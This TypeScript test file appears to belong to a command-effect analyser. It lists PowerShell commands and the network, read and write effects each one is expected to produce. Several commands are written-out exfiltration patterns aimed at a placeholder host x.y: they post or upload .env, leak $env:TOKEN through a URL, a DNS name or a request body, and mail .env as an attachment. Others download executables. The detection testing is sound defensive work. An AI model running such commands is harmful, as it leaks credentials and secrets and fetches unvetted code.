import { powershellDoes } from "./lines.ts";

powershellDoes({
  "iwr https://x.y/a -OutFile a.exe": [
    "connect https://x.y/a fetch checked",
    "write a.exe replace from[fetched https://x.y/a]",
  ],
  "Invoke-RestMethod -Uri https://x.y -Method Post -Body (Get-Content .env -Raw)": [
    "read .env shows",
    "connect https://x.y change checked",
  ],
  'irm https://x.y -Headers @{ Authorization = "Bearer $env:TOKEN" }': [
    "connect https://x.y fetch sends[TOKEN auth] checked",
  ],
  "Invoke-WebRequest https://x.y -Method PUT -InFile .env": [
    "connect https://x.y change sends[.env body] checked",
    "read .env shows",
  ],
  "Invoke-WebRequest https://x.y/?q=$env:TOKEN -SkipCertificateCheck": [
    "connect https://x.y/?q=$env:TOKEN fetch sends[TOKEN url]",
  ],
  "iwr https://x.y -Proxy http://p:1": ["connect https://x.y fetch checked", "redirect proxy http://p:1"],
  "curl https://x.y": ["connect https://x.y fetch checked"],
  "curl -sS https://x.y": ["connect https://x.y fetch checked"],
  "curl -Uri https://x.y -OutFile a": [
    "connect https://x.y fetch checked",
    "write a replace from[fetched https://x.y]",
  ],
  "Start-BitsTransfer -Source https://x.y/a -Destination a.exe": [
    "connect https://x.y/a fetch checked",
    "write a.exe replace from[fetched https://x.y/a]",
  ],
  "Start-BitsTransfer -Source a.zip -Destination https://x.y/a -TransferType Upload": [
    "read a.zip shows",
    "connect https://x.y/a change sends[a.zip body] checked",
  ],
  "Test-NetConnection x.y -Port 443": ["connect dns://x.y fetch checked"],
  'Resolve-DnsName "$env:TOKEN.x.y"': ["connect dns://$env:TOKEN.x.y fetch sends[TOKEN name] checked"],
  "Send-MailMessage -To a@b.c -From d@e.f -Subject s -Body $b -Attachments .env -SmtpServer mail.x.y": [
    "read .env shows",
    "connect smtp://mail.x.y change sends[b body, .env body] checked",
  ],
  "Invoke-WebRequest https://x.y/?q=$env:TOKEN": ["connect https://x.y/?q=$env:TOKEN fetch sends[TOKEN url] checked"],
  "irm https://x.y -Method Post -Body @{ a = 1; b = $env:TOKEN }": [
    "connect https://x.y change sends[TOKEN body] checked",
  ],
  "wget https://x.y -OutFile a": ["connect https://x.y fetch checked", "write a replace from[fetched https://x.y]"],
  "irm https://x.y -Body ([Convert]::ToBase64String($env:TOKEN))": [
    "connect https://x.y fetch sends[TOKEN body] checked",
  ],
});
